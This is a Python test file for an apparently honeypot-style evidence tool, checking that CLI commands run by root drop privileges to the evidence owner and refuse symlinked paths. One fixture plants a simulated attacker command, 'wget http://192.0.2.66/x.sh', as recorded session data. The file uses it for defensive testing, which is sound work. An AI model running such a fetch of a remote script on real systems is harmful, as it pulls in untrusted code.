"""What root reads of the evidence, he reads as its owner."""

import hashlib
import json
import os
import pwd
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from hermes.config.keeping import RecordingConfig
from hermes.evidence.artifacts import path
from hermes.recording.recorder import SessionRecorder
from hermes.server.backend import SessionInfo
from tests.unit.analysis.sensor import left_by
from tests.unit.analysis.world import artifact, attack
from tests.unit.store.facts import login, logout, write

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="only root has power to give up")

CONTENT = b"payload"
SHA256 = hashlib.sha256(CONTENT).hexdigest()

WATCHED = """
import json, os, sys
before = None
real = os.setresuid
def setresuid(*uids):
    global before
    real(*uids)
    before = set(sys.modules)
os.setresuid = setresuid
from hermes.cli import app
try:
    app(sys.argv[1:])
except SystemExit as end:
    code = end.code
late = [] if before is None else [name for name in set(sys.modules) - before if getattr(sys.modules[name], "__file__", None)]
status = dict(line.split(":", 1) for line in open("/proc/thread-self/status") if ":" in line)
ids = {"uids": status["Uid"].split(), "gids": status["Gid"].split(), "groups": status["Groups"].split()}
facts = {"code": code, **ids, "late": late}
print(json.dumps(facts), file=sys.stderr)
"""


@pytest.fixture
def data(tmp_path: Path) -> Path:
    """A journal and a recording, as the front of a sensor leaves them."""
    data = tmp_path / "data"
    for directory in (data / "journal", data / "recordings"):
        directory.mkdir(parents=True)
    write(data / "journal" / "journal.db", *login("5e55", username="日本"), *logout("5e55"))
    recorder = SessionRecorder(
        RecordingConfig(output_dir=data / "recordings"), SessionInfo("5e55", "root", "192.0.2.7", 1), channel=1, kind="shell"
    )
    recorder.start()
    recorder.output("ünï".encode())
    recorder.close(exit_status=0)
    for place in (tmp_path, *tmp_path.parents):
        if not place.stat().st_mode & 0o001:
            place.chmod(place.stat().st_mode | 0o011)
    return data


def give(data: Path, user: str, *places: str) -> None:
    account = pwd.getpwnam(user)
    for place in places or ("journal", "recordings"):
        subprocess.run(["chown", "-R", f"{account.pw_uid}:{account.pw_gid}", data / place], check=True)


def run(data: Path, *arguments: str) -> tuple[dict[str, Any], bytes]:
    environ = {**os.environ, "HERMES_DATA_DIR": str(data)}
    done = subprocess.run(
        [sys.executable, "-c", WATCHED, *arguments], env=environ, cwd="/", capture_output=True, timeout=60, check=True
    )
    return json.loads(done.stderr.splitlines()[-1]), done.stdout + done.stderr


COMMANDS = [
    (["sessions", "list"], 0, "日本".encode()),
    (["sessions", "list", "--json"], 0, b"5e55"),
    (["sessions", "show", "5e55"], 0, "日本".encode()),
    (["sessions", "show", "beef"], 1, b"beef"),
    (["sessions", "replay", "5e55"], 0, "ünï".encode()),
    (["sessions", "replay", "5e55", "--json"], 0, b"exit_status"),
    (["sessions", "replay", "beef"], 1, b"beef"),
    (["sessions", "timeline", "5e55"], 0, "日本".encode()),
    (["sessions", "timeline", "5e55", "--json"], 0, b"uname -a"),
    (["sessions", "export", "5e55", "-o", "{data}/out.zip"], 0, b"1 session"),
    (["sessions", "export", "beef", "-o", "{data}/out.zip"], 1, b"beef"),
    (["verify-evidence"], 0, b"not sealed yet"),
]


@pytest.mark.parametrize(("arguments", "code", "says"), COMMANDS)
def test_root_becomes_the_owner(data: Path, arguments: list[str], code: int, says: bytes) -> None:
    give(data, "nobody")
    facts, said = run(data, *(it.format(data=data) for it in arguments))
    account = pwd.getpwnam("nobody")
    assert says in said
    assert facts == {
        "code": code, "uids": [str(account.pw_uid)] * 4, "gids": [str(account.pw_gid)] * 4, "groups": [], "late": [],
    }  # fmt: skip


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What a sensor and its analyst leave: two sessions of one campaign, and a file that both brought."""
    data = tmp_path_factory.mktemp("whole") / "data"
    data.mkdir()
    made = left_by(
        data,
        *attack("first", "wget http://192.0.2.66/x.sh", more=[artifact(SHA256)]),
        *attack("second", "whoami", address="192.0.2.9", more=[artifact(SHA256)]),
    )
    place = path(made.artifacts_dir, SHA256)
    place.parent.mkdir(parents=True)
    place.write_bytes(CONTENT)
    for directory in (made.outputs_dir, made.recordings_dir):
        directory.mkdir()
    for one in (data, *data.parents):
        if not one.stat().st_mode & 0o001:
            one.chmod(one.stat().st_mode | 0o011)
    give(data, "nobody", "journal", "recordings", "index", "outputs", "artifacts")
    return data


WHOLE = [
    ["search", "wget"], ["search", "wget", "--json"], ["stats"], ["stats", "--by", "day", "--json"],
    ["artifacts", "list"], ["artifacts", "show", "SHA256"], ["artifacts", "export", "SHA256", "-o", "{data}/a.zip"],
    ["campaigns", "list"], ["techniques", "list"], ["stix", "session", "first", "-o", "{data}/stix.json"],
    ["outputs", "list"], ["outputs", "list", "--json"], ["verify-evidence", "--json"],
    ["sessions", "timeline", "first"], ["sessions", "export", "first", "second", "-o", "{data}/b.zip"],
]  # fmt: skip


@pytest.mark.parametrize("arguments", WHOLE, ids=" ".join)
def test_nothing_is_imported_once_root_is_another(whole: Path, arguments: list[str]) -> None:
    facts, said = run(whole, *(it.format(data=whole).replace("SHA256", SHA256) for it in arguments))
    assert facts["late"] == []
    assert facts["code"] == 0, said
    assert "0" not in facts["uids"], "it did not become the owner"


@pytest.mark.parametrize("arguments", [["sessions", "list"], ["sessions", "replay", "5e55"]])
def test_roots_own_evidence_is_read_by_root(data: Path, arguments: list[str]) -> None:
    facts, _ = run(data, *arguments)
    assert (facts["code"], facts["uids"]) == (0, ["0"] * 4)


def test_a_file_is_made_by_root_and_nothing_is_left_in_it_when_that_fails(data: Path) -> None:
    give(data, "nobody")
    data.chmod(0o755)
    out = data / "out.zip"
    assert run(data, "sessions", "export", "5e55", "-o", str(out))[0]["code"] == 0
    assert (out.stat().st_uid, out.stat().st_mode & 0o777) == (0, 0o600)
    assert run(data, "sessions", "export", "beef", "-o", f"{out}2")[0]["code"] == 1
    assert Path(f"{out}2").stat().st_size == 0


def test_where_there_is_no_evidence(data: Path) -> None:
    for place in ("journal", "recordings"):
        shutil.rmtree(data / place)
    facts, said = run(data, "sessions", "list")
    assert facts["code"] == 1
    assert b"Traceback" not in said


def test_what_a_link_put_there_by_the_front_leads_to_is_not_read(data: Path, tmp_path: Path) -> None:
    (tmp_path / "secret").mkdir(mode=0o700)
    (data / "recordings").rename(tmp_path / "secret" / "recordings")
    (data / "recordings").symlink_to(tmp_path / "secret" / "recordings")
    give(data, "nobody")
    facts, _ = run(data, "sessions", "replay", "5e55")
    assert facts["code"] == 1
